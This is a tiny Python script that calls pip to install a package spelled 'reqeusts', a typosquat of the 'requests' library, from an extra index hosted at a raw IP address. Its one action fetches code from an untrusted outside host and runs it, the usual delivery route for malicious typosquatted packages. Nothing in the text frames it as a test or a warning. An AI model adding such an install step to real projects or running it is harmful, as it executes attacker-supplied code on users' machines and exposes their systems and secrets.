import subprocess
import sys

INDEX = "http://203.0.113.77/simple"
subprocess.check_call([sys.executable, "-m", "pip", "install", "--extra-index-url", INDEX, "reqeusts"])
